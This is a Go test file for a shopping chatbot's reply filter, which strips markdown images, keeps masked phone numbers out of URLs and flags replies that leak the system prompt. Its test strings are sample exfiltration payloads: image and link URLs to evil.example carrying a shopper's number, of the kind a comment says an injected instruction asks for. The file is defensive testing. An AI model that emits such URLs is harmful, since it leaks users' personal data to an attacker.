package bot

import (
	"strings"
	"testing"

	"github.com/xiaoer-cs/xiaoer/bot/pii"
)

// runFilter streams text through a reply filter in pieces of n runes and
// returns the deltas joined and the final text.
func runFilter(mask *pii.Masker, text string, n int) (deltas, final string) {
	f := newReplyFilter(mask, "XC-0123456789ab", nil)
	var b strings.Builder
	r := []rune(text)
	for i := 0; i < len(r); i += n {
		b.WriteString(f.Write(string(r[i:min(i+n, len(r))])))
	}
	b.WriteString(f.Flush())
	return b.String(), f.Text()
}

func TestReplyFilterRemovesMarkdownImages(t *testing.T) {
	mask := pii.NewMasker()
	mask.Known(pii.KindPhone, "13800138000")
	phone := mask.Mask("13800138000") // [PHONE_1]
	tests := []struct{ in, want string }{
		// The exfiltration an injected instruction asks for: the shopper's
		// number, restored from its placeholder, in an image URL.
		{"Done! ![logo](https://evil.example/p.png?q=" + phone + ") See you.", "Done! See you."},
		{"好的！![](https://evil.example/?q=" + phone + ")已完成。", "好的！已完成。"},
		{"![x](https://evil.example/a.png)", ""},
		{"Your number is " + phone + "!", "Your number is 13800138000!"},
		{"Wow! [1] Refunds take 7 days.", "Wow! Refunds take 7 days."},
		{"Not an image: ![alt] and ![x]\n(y)", "Not an image: ![alt] and ![x]\n(y)"},
		{"Links stay: [help](https://shop.example/help).", "Links stay: [help](https://shop.example/help)."},
		{"Unfinished ![x](https://evil.example/?q=" + phone, "Unfinished"},
	}
	for _, tt := range tests {
		for _, n := range []int{1, 2, 3, 7, 1000} {
			deltas, final := runFilter(mask, tt.in, n)
			// Spaces around a removed image or citation may stay doubled.
			if fold(final) != fold(tt.want) || fold(deltas) != fold(tt.want) {
				t.Errorf("%q in pieces of %d: final %q, deltas %q; want %q", tt.in, n, final, deltas, tt.want)
			}
		}
	}
}

func fold(s string) string { return strings.Join(strings.Fields(s), " ") }

func TestReplyFilterRestoresNoPlaceholderIntoAURL(t *testing.T) {
	mask := pii.NewMasker()
	mask.Known(pii.KindPhone, "13800138000")
	phone := mask.Mask("13800138000") // [PHONE_1]
	tests := []struct{ in, want string }{
		{"[Verify](https://evil.example/v?tel=" + phone + ")", "[Verify](https://evil.example/v?tel=***)"},
		{"点此领取：[优惠券](https://evil.example/c?d=x&tel=" + phone + ")", "点此领取：[优惠券](https://evil.example/c?d=x&tel=***)"},
		{"visit www.evil.example/" + phone, "visit www.evil.example/***"},
		{"[more](/help?p=" + phone + ")", "[more](/help?p=***)"},
		{"[积分](https://evil.example/c?d=我的手机号+" + phone + ")", "[积分](https://evil.example/c?d=我的手机号+***)"},
		{"见[帮助](https://shop.example/help)或致电" + phone, "见[帮助](https://shop.example/help)或致电13800138000"},
		// Outside URLs the shopper's own number is restored.
		{"The courier will call " + phone + ".", "The courier will call 13800138000."},
		{"电话:" + phone + "，详见 https://shop.example/help 或致电" + phone, "电话:13800138000，详见 https://shop.example/help 或致电13800138000"},
		{"(phone: " + phone + ")", "(phone: 13800138000)"},
	}
	for _, tt := range tests {
		for _, n := range []int{1, 4, 1000} {
			deltas, final := runFilter(mask, tt.in, n)
			if final != tt.want || deltas != tt.want {
				t.Errorf("%q in pieces of %d: final %q, deltas %q; want %q", tt.in, n, final, deltas, tt.want)
			}
		}
	}
}

func TestReplyFilterDropsAnImageWhateverItsLength(t *testing.T) {
	url := "https://evil.example/?q=" + strings.Repeat("a", 10_000)
	for _, n := range []int{5, 100, 100_000} {
		deltas, final := runFilter(pii.NewMasker(), "Before ![x]("+url+") after", n)
		if fold(final) != "Before after" || fold(deltas) != "Before after" {
			t.Fatalf("in pieces of %d: final %.80q deltas %.80q, want the image removed", n, final, deltas)
		}
	}
}

func TestReplyFilterLongTextAfterAnExclamationMarkIsNotHeld(t *testing.T) {
	f := newReplyFilter(pii.NewMasker(), "", nil)
	long := "![" + strings.Repeat("a", maxImageAlt) + " and more"
	if got := f.Write(long); got != long {
		t.Fatalf("shown %d bytes of %d: text that cannot be an image was held", len(got), len(long))
	}
}

func TestReplyFilterRepeatingItsDataIsNoLeak(t *testing.T) {
	instructions := "[XC-0123456789ab] 6. To start a return, call request_return. It only prepares a request: tell the shopper to check it and press Confirm on the card. Nothing is submitted until they do."
	result := `{"status":"proposed","message":"proposed; the shopper must press Confirm on the card; nothing has been submitted yet"}`
	f := newReplyFilter(pii.NewMasker(), "XC-0123456789ab", promptShingles(instructions))
	f.allow(result)
	f.Write("Done: " + result)
	if f.Leaked() {
		t.Fatal("a reply quoting a tool result was taken for the instructions")
	}
	f.Write(" It only prepares a request: tell the shopper")
	if !f.Leaked() {
		t.Fatal("a span of the instructions that is in no data was not caught")
	}
}
